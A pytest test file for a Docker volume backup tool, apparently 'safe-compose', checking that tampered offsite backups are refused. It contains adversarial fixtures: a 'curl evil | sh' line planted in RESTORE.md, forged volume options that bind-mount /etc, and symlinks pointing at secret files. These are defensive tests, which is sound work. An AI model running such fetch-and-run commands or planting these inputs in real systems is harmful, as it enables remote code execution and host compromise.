def another_purpose(shop: ShopWithCopies) -> None:
    key = shop.disk.parent / "signing" / "key"
    words = ["ssh-keygen", "-Y", "sign", "-q", "-f", key, "-n", "file"]
    done = subprocess.run(
        words, input=(shop.copy / "SHA256SUMS").read_bytes(), capture_output=True, check=True
    )
    (shop.copy / signing.SIGNATURE).write_bytes(done.stdout)


SIGNATURES: Mapping[str, Callable[[ShopWithCopies], object]] = {
    "none": remove_signature,
    "of another key": another_key,
    "of the key, for another purpose": another_purpose,
    "garbage": lambda shop: (shop.copy / signing.SIGNATURE).write_bytes(b"x"),
    "a gigabyte": lambda shop: os.truncate(shop.copy / signing.SIGNATURE, 1 << 30),
    "a link": lambda shop: as_link(shop.copy / signing.SIGNATURE, shop.kept and Path("/dev/zero")),
    "of an older manifest": lambda shop: shop.change(volume(name="victim_data")) or None,
    "of other options": lambda shop: shop.change(
        volume(options={"type": "none", "o": "bind", "device": "/etc"})
    ),
    "of another archive": lambda shop: (
        (shop.copy / "shop_data/data.tar.gz").write_bytes(b"x"),
        shop.sum(),
    ),
    "of another RESTORE.md": lambda shop: (
        (shop.copy / "RESTORE.md").write_text("curl evil | sh"),
        shop.sum(),
    ),
}


@pytest.mark.parametrize("what", SIGNATURES)
def test_without_a_good_signature_nothing_is_fetched_where_one_is_asked_for(
    shop: ShopWithCopies, what: str
) -> None:
    to = push_signed(shop)
    SIGNATURES[what](shop)
    with pytest.raises(VerificationFailed) as refused:
        shop.pull(shop.kept.id, to=to)
    assert refused.value.code == 65
    shop.nothing_fetched()
    outcomes = list(offsite.verify(shop.other, to, shop.kept.id, None))
    assert [o.state for o in outcomes] == ["failed"]


def test_without_any_key_a_place_that_asks_for_signatures_gives_nothing(
    shop: ShopWithCopies,
) -> None:
    push_signed(shop)
    with pytest.raises(VerificationFailed, match="no key to check them with"):
        shop.pull(to=signed(shop, folder="no-keys"))


def test_a_new_key_signs_again_and_the_old_one_counts_as_long_as_it_is_named(
    shop: ShopWithCopies, tmp_path: Path
) -> None:
    to = push_signed(shop)
    old = offsite.open_signer(to, shop.catalogue.folder.access).public()
    assert old is not None
    shutil.rmtree(tmp_path / "signing")
    newer = keep(shop.catalogue)
    [sent] = offsite.push(shop.catalogue, [newer], to)
    assert sent.fault is None
    with pytest.raises(VerificationFailed, match="signed by no key that counts"):
        shop.pull(shop.kept.id, to=to)
    assert shop.pull(shop.kept.id, to=replace(to, verify_keys=(old,))).counts
    [resigned] = offsite.push(shop.catalogue, [shop.kept], to)
    assert resigned.sent == 1
    assert shop.pull(shop.kept.id, to=to, catalogue=Catalogue.at(tmp_path / "third")).counts


def test_a_projects_file_neither_switches_signatures_off_nor_names_the_keys(tmp_path: Path) -> None:
    key = "ssh-ed25519 " + "A" * 68
    user_file = tmp_path / ".config/safe-compose/config.toml"
    user_file.parent.mkdir(parents=True)
    user_file.write_text(
        f'[offsite.a]\nurl = "file:///copies"\nsigned = true\nverify_key = ["{key} me@host"]\n'
    )
    environ = {"HOME": str(tmp_path)}
    for said in ('[offsite.a]\nurl = "file:///copies"\nsigned = false\n', '[offsite.a]\nurl = "file:///elsewhere"\n',
                 '[offsite.b]\nurl = "file:///copies/"\n',
                 f'[offsite.a]\nurl = "file:///copies"\nverify_key = ["ssh-ed25519 {"B" * 68}"]\n'):  # fmt: skip
        (tmp_path / "safe-compose.toml").write_text(said)
        settings = load.load(tmp_path, environ)
        assert [(d.signed, d.verify_keys) for d in settings.offsite if d.path != "/x"] == [
            (True, (key,))
        ] * len(settings.offsite)
        [by_url] = offsite.choose_destinations(settings, "file:///copies")
        assert (by_url.signed, by_url.verify_keys) == (True, (key,))
        assert {d.key_folder for d in settings.offsite} == {
            str(tmp_path / ".local/share/safe-compose/.signing")
        }


# -- going back, and what is sent ------------------------------------------------------------------


def test_a_place_that_has_lost_the_newest_that_was_sent_does_not_make_latest_an_older_one(
    shop: ShopWithCopies,
) -> None:
    newer = keep(shop.catalogue)
    [sent] = offsite.push(shop.catalogue, [newer], shop.to)
    assert sent.fault is None
    shutil.rmtree(shop.disk / "shop" / newer.id)
    with pytest.raises(VerificationFailed, match="goes back in time") as refused:
        shop.pull(catalogue=shop.catalogue)
    assert shop.kept.id in str(refused.value.next_step)
    assert shop.pull(shop.kept.id, catalogue=shop.catalogue).id == shop.kept.id
    assert (
        shop.pull().id == shop.kept.id
    )  # a machine that does not know what was sent cannot miss it


def test_nothing_but_the_backups_own_files_is_sent(shop: ShopWithCopies, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("of another project")
    folder = Path(shop.kept.path)
    shutil.rmtree(shop.disk / "shop")
    sums = (folder / "SHA256SUMS").read_text()
    archive = folder / "shop_data" / "data.tar.gz"
    before = archive.read_bytes()

    (folder / "extra").write_text("x")
    (folder / "SHA256SUMS").write_text(sums + f"{hashlib.sha256(b'x').hexdigest()}  extra\n")
    [sent] = offsite.push(shop.catalogue, [shop.kept], shop.to)
    assert isinstance(sent.fault, VerificationFailed) and "no file of it" in sent.fault.message

    digest = hashlib.sha256(secret.read_bytes()).hexdigest()
    archive.unlink()
    archive.symlink_to(secret)
    (folder / "SHA256SUMS").write_text(sums.replace(hashlib.sha256(before).hexdigest(), digest))
    [sent] = offsite.push(shop.catalogue, [shop.kept], shop.to)
    assert isinstance(sent.fault, VerificationFailed)
    assert [
        p for p in shop.disk.rglob("*") if p.is_file() and b"of another project" in p.read_bytes()
    ] == []


# -- the store itself ------------------------------------------------------------------------------


@pytest.mark.parametrize("plant", [as_link, as_fifo, as_device, as_folder])
@pytest.mark.parametrize(
    "file", ["manifest.json", "verification.json", "SHA256SUMS", "shop_data/data.tar.gz"]
)
def test_what_is_no_file_in_the_store_is_neither_followed_nor_waited_for(
    shop: ShopWithCopies, file: str, plant: Callable[[Path, Path], None], tmp_path: Path
) -> None:
    path = Path(shop.kept.path, file)
    twin = tmp_path / "twin"
    twin.write_bytes(path.read_bytes())
    plant(path, twin)
    catalogue = Catalogue.at(shop.catalogue.root)
    [found] = catalogue.reader.backups()
    if file in ("manifest.json", "verification.json"):
        assert found.broken
    elif file == "SHA256SUMS":
        with pytest.raises(VerificationFailed):
            catalogue.reader.sums(found)
    else:
        assert catalogue.reader.lacks(found) == f"{file} is no file of the backup's own"


def test_planted_process_facts_remove_nothing_and_break_nothing(shop: ShopWithCopies) -> None:
    folder = shop.catalogue.root / "shop"
    victim = folder.parent / "victim"
    victim.mkdir()
    (victim / "owner.json").write_text(
        json.dumps({"process": {"pid": 1, "boot": "x", "host": os.uname().nodename}})
    )
    (folder / ".workplace-link").symlink_to(victim)
    (folder / f".partial-{ID}").symlink_to(victim)
    for name, facts in (("huge", {"pid": 10**30}), ("text", {"pid": "1"}), ("deep", None)):
        place = folder / f".workplace-{name}"
        place.mkdir()
        (place / "owner.json").write_text(
            "[" * 100_000 if facts is None else json.dumps({"process": facts})
        )
    fifo = folder / ".workplace-fifo"
    fifo.mkdir()
    os.mkfifo(fifo / "owner.json")
    with pytest.raises(OperationFailed, match="cannot read the lock"):
        shop.catalogue.writer.sweep()
    shutil.rmtree(fifo)
    assert shop.catalogue.writer.sweep() == () and victim.exists()
    assert Process.read({"pid": 1 << 31}) is None


@pytest.mark.parametrize(
    "change",
    [
        lambda line: line[1].__setitem__(1, "a number"), lambda line: line[1].__setitem__(2, 5),
        lambda line: line[1].__setitem__(8, None),
        lambda line: line[1].__setitem__(7, [[1]]), lambda line: line[1].pop(), lambda line: line.__setitem__(0, "key"),
    ],
)  # fmt: skip
def test_a_poisoned_index_is_read_as_none(
    shop: ShopWithCopies, change: Callable[[Any], object]
) -> None:
    from safe_compose.store.catalogue import index

    backup = shop.catalogue.reader.list_summaries()[0]
    key = index.make_key(backup.path, ("manifest.json", "verification.json"))
    assert key is not None
    index.write(
        shop.catalogue.root, {f"shop/{backup.id}": (key, backup)}, shop.catalogue.folder.access
    )
    path = shop.catalogue.root / index.NAME
    shape = json.loads(path.read_text())
    change(shape["lines"][f"shop/{backup.id}"])
    path.write_text(json.dumps(shape))
    assert [b.id for b in Catalogue.at(shop.catalogue.root).reader.list_summaries()] == [backup.id]
    assert Catalogue.at(shop.catalogue.root).reader.find("latest").id == backup.id


def test_nothing_is_fetched_into_a_folder_of_the_store_that_is_a_link(
    shop: ShopWithCopies, tmp_path: Path
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    shop.other.folder.ensure()
    (shop.other.root / "shop").symlink_to(outside)
    with pytest.raises(OperationFailed, match="a link or a file"):
        shop.pull()
    assert list(outside.iterdir()) == []


def test_a_folder_in_the_store_without_the_name_of_a_backup_is_shown_as_none(
    shop: ShopWithCopies,
) -> None:
    shutil.copytree(shop.kept.path, shop.catalogue.root / "shop" / "zzz")
    found = {b.id: b.broken for b in Catalogue.at(shop.catalogue.root).reader.backups()}
    assert found == {shop.kept.id: None, "zzz": "its folder has not the name of a backup"}


# -- what a volume reaches -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("driver", "options", "words"),
    [
        ("local", {}, None),
        ("local", {"type": "none", "o": "bind", "device": "/etc"}, "device=/etc"),
        ("local", {"type": "nfs", "o": "addr=10.0.0.1", "device": ":/x"}, "addr=10.0.0.1"),
        (
            "local",
            {"type": "cifs", "o": "username=a,password=hunter2", "device": "//h/s"},
            "password=***",
        ),
        ("local", {"type": "tmpfs", "device": "tmpfs", "o": "size=9999g"}, "size=9999g"),
        ("local", {"device": ""}, "device="),
        ("local", {"size": "10G"}, "size=10G"),
        ("rclone", {}, "driver rclone"),
        ("vieux/sshfs:latest", {"sshcmd": "a@b:/"}, "driver vieux/sshfs:latest"),
    ],
)
def test_only_a_local_volume_without_options_stays_inside(
    driver: str, options: Mapping[str, str], words: str | None
) -> None:
    found = volume_reach.describe_reach(driver, options)
    assert found is None if words is None else words in str(found)
    assert "hunter2" not in str(found)


def test_labels_that_this_program_obeys_are_not_brought_along() -> None:
    labels = {
        "com.docker.compose.project": "shop",
        "io.github.safe-compose.scratch": "x",
        "io.github.safe-compose.trash": "y",
    }
    assert volume_reach.drop_own_labels(labels) == {"com.docker.compose.project": "shop"}


# -- the way back, on a real engine ----------------------------------------------------------------


@pytest.fixture
def forged(
    shop: ShopWithCopies, safe_compose: SafeCompose, tmp_path: Path
) -> Iterator[Callable[..., tuple[str, Completed]]]:
    """`forged(change, *words)`: the copy with a changed manifest, restored from its place; the
    volume's name, and what was said.
    """
    made: list[str] = []

    def restore(
        change: Callable[[dict[str, Any]], object], *words: str, name: str | None = None
    ) -> tuple[str, Completed]:
        volume_name = name or unique("planted")
        made.append(volume_name)

        def all_of_it(shape: dict[str, Any]) -> None:
            shape["volumes"][0]["name"] = volume_name
            for file in shape["volumes"][0]["artifacts"]:
                file["volume"] = volume_name
            change(shape)

        shop.change(all_of_it)
        folder = tmp_path / "elsewhere"
        folder.mkdir(exist_ok=True)
        return volume_name, safe_compose("restore", "--from", shop.to.url, *words, cwd=folder)

    yield restore
    for volume_name in made:
        docker("volume", "rm", "-f", volume_name, check=False)


Forged = Callable[..., tuple[str, Completed]]


UNASKED = ("--non-interactive",)
ALL_WAYS = (UNASKED, (), ("--confirm", "wrong"))


@pytest.mark.thorough
@pytest.mark.engine
@pytest.mark.parametrize(
    ("facts", "words", "ways"),
    [
        (
            {"options": {"type": "none", "o": "bind", "device": "PLACE"}},
            "options device=PLACE, o=bind, type=none",
            ALL_WAYS,
        ),
        (
            {"options": {"type": "nfs", "o": "addr=127.0.0.1", "device": ":/PLACE"}},
            "options device=:/PLACE",
            (UNASKED,),
        ),
        (
            {"options": {"type": "tmpfs", "device": "tmpfs", "o": "size=999g"}},
            "size=999g",
            (UNASKED,),
        ),
        ({"driver": "some/driver:latest"}, "driver some/driver:latest", (UNASKED,)),
    ],
    ids=["bind", "nfs", "tmpfs", "driver"],
)
def test_a_fetched_volume_that_reaches_outside_needs_a_person(
    forged: Forged,
    facts: Mapping[str, Any],
    words: str,
    ways: Sequence[Sequence[str]],
    tmp_path: Path,
) -> None:
    """`restore --from sftp://... latest --non-interactive` wrote setuid files as root into a folder
    of the host.
    """
    place = tmp_path / "etc"
    place.mkdir()
    planted = json.loads(json.dumps(facts).replace("PLACE", str(place)))
    for how in ways:
        name, done = forged(volume(**planted), "latest", *how)
        assert done.returncode == 77, (how, done.stderr)
        assert (
            "REACHES OUTSIDE" in done.stderr and words.replace("PLACE", str(place)) in done.stderr
        )
        assert "--confirm 'shop'" in done.stderr or "--non-interactive" not in how, done.stderr
        assert docker("volume", "inspect", name, check=False).returncode != 0
    assert list(place.iterdir()) == []


@pytest.mark.thorough
@pytest.mark.engine
def test_a_fetched_volume_is_made_without_labels_that_this_program_obeys(forged: Forged) -> None:
    labels = {
        "com.docker.compose.project": "shop",
        "io.github.safe-compose.scratch": "x",
        "io.github.safe-compose.trash": "y",
    }
    name, done = forged(volume(labels=labels), "latest", "--non-interactive")
    assert done.returncode == 0, done.stderr
    assert "nobody vouches for who made it" in done.stderr
    [made] = json.loads(docker("volume", "inspect", name).stdout)
    assert made["Labels"] == {"com.docker.compose.project": "shop"}


@pytest.mark.engine
def test_a_fetched_volume_of_another_project_needs_a_phrase_that_is_not_the_projects_name(
    forged: Forged,
) -> None:
    name, done = forged(
        volume(labels={"com.docker.compose.project": "victim"}), "latest", "--confirm", "shop"
    )
    assert done.returncode == 77 and "is of project victim" in done.stderr
    assert (
        f"--confirm '{name}'" in done.stderr
        and docker("volume", "inspect", name, check=False).returncode != 0
    )


@pytest.mark.thorough
@pytest.mark.engine
def test_a_project_without_a_name_makes_no_phrase_that_enter_would_give(
    shop: ShopWithCopies, safe_compose: SafeCompose, tmp_path: Path
) -> None:
    def nameless(shape: dict[str, Any]) -> None:
        shape["project"] = ""
        shape["volumes"][0]["options"] = {"type": "none", "o": "bind", "device": str(tmp_path)}

    shop.change(nameless)
    rename_copy(shop, f"{slug('')}/{shop.kept.id}")
    for given in ("", " "):
        done = safe_compose(
            "restore", "--from", shop.to.url, "latest", "--confirm", given, cwd=tmp_path
        )
        assert done.returncode == 77 and "--confirm shop_data" in done.stderr.replace("'", ""), (
            done.stderr
        )
    assert docker("volume", "inspect", "shop_data", check=False).returncode != 0


@pytest.mark.thorough
@pytest.mark.engine
def test_one_file_of_an_unsigned_backup_needs_the_phrase_in_the_volume_of_another_project(
    forged: Forged,
) -> None:
    name = unique("planted")
    docker("volume", "create", "--label", "com.docker.compose.project=victim", name)
    words = ("latest", "--path", "photo", "--volume", name)
    for how in (("--non-interactive",), ("--confirm", "shop")):
        _, done = forged(volume(), *words, *how, name=name)
        assert done.returncode == 77 and "fetched without a signature from" in done.stderr, (
            done.stderr
        )
        assert "it is of victim" in done.stderr and "--confirm 'photo'" in done.stderr
    look = ("run", "--rm", "--network", "none", "-v", f"{name}:/v", "busybox:latest", "ls", "/v")
    assert docker(*look).stdout == ""
    _, done = forged(volume(), *words, "--confirm", "photo", name=name)
    assert done.returncode == 0 and docker(*look).stdout == "photo\n", done.stderr


@pytest.mark.thorough
@pytest.mark.engine
def test_a_volume_of_the_host_that_is_there_and_reaches_outside_is_not_filled_unasked(
    forged: Forged, tmp_path: Path
) -> None:
    place, name = tmp_path / "data", unique("planted")
    place.mkdir()
    docker("volume", "create", "-o", "type=none", "-o", "o=bind", "-o", f"device={place}", name)
    _, done = forged(volume(), "latest", "--non-interactive", name=name)
    assert (
        done.returncode == 77 and "REACHES OUTSIDE" in done.stderr and list(place.iterdir()) == []
    )
    _, done = forged(volume(), "latest", "--confirm", "shop", name=name)
    assert done.returncode == 0 and [p.name for p in place.iterdir()] == ["photo"]
